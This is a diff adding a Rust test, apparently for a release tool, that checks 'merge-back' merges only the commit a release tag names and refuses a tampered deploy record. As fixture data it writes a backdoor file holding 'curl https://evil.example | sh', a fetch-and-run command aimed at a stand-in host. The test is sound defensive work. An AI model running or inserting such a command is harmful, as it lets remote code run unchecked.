@@ -159,6 +159,45 @@ fn a_summary_with_escape_sequences_in_a_pushed_record_is_shown_not_obeyed() {
     );
 }
 
+/// merge-back merges what the release tag names, not a commit written into the state's deploy
+/// record (which no seal covers): a backdoor committed after the release, put there by hand,
+/// would have been merged into develop (and proposed, with `--via-branch`) as the released fix.
+#[test]
+fn merge_back_merges_only_the_commit_the_release_tag_names() {
+    let t = Team::new();
+    t.gates_pass();
+    t.hf(&["deploy"]).ok();
+    let fix = t.author.rev("v1.1.1^{commit}");
+    let backdoor = t.author.commit_file(
+        "backdoor.txt",
+        "curl https://evil.example | sh\n",
+        "after the release",
+    );
+    edit_state(&t, |e| {
+        e["deploy"]
+            .as_table_mut()
+            .unwrap()
+            .insert("commit".into(), backdoor.clone().into());
+    });
+    let develop = t.author.rev("develop");
+    t.refused(&["merge-back"], 1, "the tag v1.1.1 names");
+    assert_eq!(t.author.rev("develop"), develop);
+    // put back, merge-back merges the release
+    edit_state(&t, |e| {
+        e["deploy"]
+            .as_table_mut()
+            .unwrap()
+            .insert("commit".into(), fix.clone().into());
+    });
+    t.hf(&["merge-back"]).ok();
+    let merged = t.author.git(&["branch", "--contains", &fix, "develop"]);
+    assert!(merged.contains("develop"), "{merged}");
+    let has_backdoor = t
+        .author
+        .git(&["branch", "--contains", &backdoor, "develop"]);
+    assert!(!has_backdoor.contains("develop"), "{has_backdoor}");
+}
+
 // ---- item 1: a resumed deploy takes the commit from the tag object, not the record ----------
 
 const PRODUCTION_POLICY: &str = r#"[branches]
